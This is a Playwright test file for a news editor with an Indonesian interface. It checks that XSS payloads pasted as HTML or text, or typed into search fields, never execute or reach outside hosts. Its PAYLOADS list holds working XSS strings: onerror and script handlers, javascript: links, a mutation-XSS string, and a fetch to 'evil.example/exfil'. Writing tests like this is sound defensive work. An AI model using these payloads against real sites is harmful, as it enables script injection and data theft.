// Hostile copy: pasted HTML and wire text carrying <script>, onerror=, javascript: links, iframes
// and hidden CSS never run or load anything. `window.__pwned` stays unset, no dialog opens, and no
// request leaves 127.0.0.1.
import { test } from 'node:test';
import type { Page } from 'playwright-core';
import assert from 'node:assert/strict';
import { offsiteRequests, startHarness } from './harness.ts';
import { caretAtEnd, pasteOutside, until } from './helpers.ts';

const PAYLOADS = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=1</script>',
  '<a href="javascript:window.__pwned=1">klik di sini</a>',
  '<iframe src="https://evil.example/" onload="window.__pwned=1"></iframe>',
  '<svg onload="window.__pwned=1"><circle r="1"/></svg>',
  '<div style="display:none">teks tersembunyi</div>',
  '<img src="https://tracker.example/pixel.gif">',
  '<object data="https://evil.example/x.swf"></object>',
  // Script that would only call out (no flag): a CSP-blocked fetch shows no request, only a violation.
  '<img src=y onerror="fetch(\'https://evil.example/exfil\')">',
  // CSS that hides text or loads from elsewhere.
  '<p style="color:transparent;font-size:0">teks siluman</p>',
  '<style>.story-editor p { display: none }</style>',
  '<div style="background:url(https://tracker.example/bg.png)">latar pelacak</div>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  // Last: its unclosed <style> swallows whatever follows it in the HTML flavour.
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
];

const HTML = `<p>Jakarta (ANTARA) - Berita uji keamanan dengan muatan berbahaya.</p>${PAYLOADS.map((p) => `<p>${p} paragraf</p>`).join('')}`;
const TEXT = `Jakarta (ANTARA) - Berita uji keamanan dengan muatan berbahaya.\n\n${PAYLOADS.join('\n\n')}`;

async function pwned(page: Page): Promise<unknown> {
  return page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);
}

test('XSS payloads pasted as HTML, as text and into the editor never execute or load', async () => {
  const h = await startHarness();
  const dialogs: string[] = [];
  const violations: string[] = [];
  const contextRequests: string[] = [];
  try {
    h.page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
    // Attempts the CSP blocked before any request (fetch, XHR, a style's url()) show up only as
    // violations: record them from the first script on, and every request of the whole context.
    await h.page.exposeFunction('__cspViolation', (v: string) => { violations.push(v); });
    await h.page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (e) => {
        void (window as unknown as { __cspViolation(v: string): void }).__cspViolation(JSON.stringify({ directive: e.violatedDirective, blocked: e.blockedURI, source: e.sourceFile }));
      });
    });
    h.context.on('request', (r) => contextRequests.push(r.url()));
    await h.open();
    const { page } = h;

    // 1. Pasted outside the editor with an HTML flavour: sanitized, imported, shown as text.
    await pasteOutside(page, TEXT, HTML);
    await page.locator('.story-editor p[data-role="lead"]').waitFor();
    assert.match(await page.locator('.story-editor').innerText(), /Berita uji keamanan/);

    // 2. Pasted as plain text: the markup is words on the page, nothing more.
    await pasteOutside(page, TEXT);
    await page.waitForFunction(() => document.querySelectorAll('.story-row').length === 2);
    await page.locator('.story-row').nth(0).click();
    await page.locator('.story-editor p', { hasText: 'onerror' }).first().waitFor();
    assert.match(await page.locator('.story-editor').innerText(), /<script>window\.__pwned=1<\/script>/);

    // 3. Pasted into the editor itself (ProseMirror's paste, sanitized first).
    const p = page.locator('.story-editor p').first();
    await caretAtEnd(page, p);
    await page.evaluate((html) => {
      const dt = new DataTransfer();
      dt.setData('text/html', html);
      dt.setData('text/plain', 'teks');
      document.querySelector('.story-editor')!.dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true }));
    }, HTML);
    await page.locator('.save-status.save-saved').waitFor();

    // 4. Typed into the inbox filter and the archive search.
    await page.getByRole('searchbox', { name: 'Saring judul…' }).fill(PAYLOADS[0]);
    await page.getByRole('searchbox', { name: 'Saring judul…' }).fill('');
    await page.keyboard.press('Control+Shift+F');
    await page.getByRole('searchbox', { name: 'Cari di arsip' }).fill(PAYLOADS.join(' '));
    await page.waitForTimeout(400);
    await page.keyboard.press('Escape');

    // Open every story and every panel tab once more.
    for (let i = 0; i < 2; i++) {
      await page.locator('.story-row').nth(i).click();
      for (const tab of ['Pemeriksaan', 'Baca juga', 'Metadata', 'Riwayat']) await page.getByRole('tab', { name: new RegExp(`^${tab}`) }).click();
    }
    await page.waitForTimeout(300);

    assert.equal(await pwned(page), undefined);
    assert.deepEqual(dialogs, []);
    const foreign = await page.evaluate(() => ({
      iframes: document.querySelectorAll('iframe, object, embed').length,
      imgs: Array.from(document.querySelectorAll('img')).map((i) => i.src),
      scripts: Array.from(document.querySelectorAll('script')).filter((s) => !s.src).length,
      jsLinks: Array.from(document.querySelectorAll('a[href]')).filter((a) => a.getAttribute('href')!.trim().toLowerCase().startsWith('javascript:')).length,
    }));
    assert.deepEqual(foreign, { iframes: 0, imgs: [], scripts: 0, jsLinks: 0 });
    assert.deepEqual(offsiteRequests(h), [], 'no request leaves 127.0.0.1');
    assert.deepEqual(contextRequests.filter((u) => !u.startsWith(h.baseUrl) && !u.startsWith('data:')), [], 'no request from any page or worker');
    // No attempt to reach anything, even one the CSP stopped before it became a request.
    const seen = violations.map((v) => JSON.parse(v) as { directive: string; blocked: string; source: string });
    assert.deepEqual(seen.filter((v) => /^(https?|wss?|ftp):/i.test(v.blocked)), [], 'a blocked attempt to load or call out');
    // What the CSP did block is the app's own code at work, never the copy's: zod probing for eval
    // (it then runs without), and DOMPurify's inert parse meeting the payload's style before it
    // strips it. An inline script or handler from the copy would show here as script-src-*.
    for (const v of seen) {
      assert.ok(['script-src eval', 'style-src-attr inline', 'style-src-elem inline'].includes(`${v.directive} ${v.blocked}`) && v.source.startsWith(`${h.baseUrl}assets/`), `unexpected CSP violation ${JSON.stringify(v)}`);
    }
    // The recorder itself works: a fetch the test makes is seen as a blocked attempt.
    // The report crosses an exposed binding after the event: wait for it rather than a fixed 200 ms.
    await page.evaluate(() => fetch('https://evil.example/probe').catch(() => undefined));
    await until(() => violations.some((v) => v.includes('https://evil.example/probe')), 'the violation recorder to see a CSP-blocked fetch');
    // Hiding CSS is gone: no inline style or <style> from the copy, and the "hidden" words are visible.
    const styled = await page.evaluate(() => ({
      // Inside the text and the inbox rows (the list's own rows are positioned by the app, through CSSOM).
      inline: Array.from(document.querySelectorAll('.story-editor [style], .story-row [style]')).map((e) => `${e.tagName} ${e.getAttribute('style')}`).join(' | ') || 0,
      sheets: Array.from(document.querySelectorAll('style')).filter((st) => /display:\s*none|transparent/.test(st.textContent ?? '')).length,
      links: document.querySelectorAll('link[rel="stylesheet"]:not([href^="./"]):not([href^="/"])').length,
    }));
    assert.deepEqual(styled, { inline: 0, sheets: 0, links: 0 });
    assert.match(await page.locator('.story-editor').innerText(), /teks siluman/);

    assert.deepEqual(h.pageErrors, []);
  } finally {
    await h.close();
  }
});
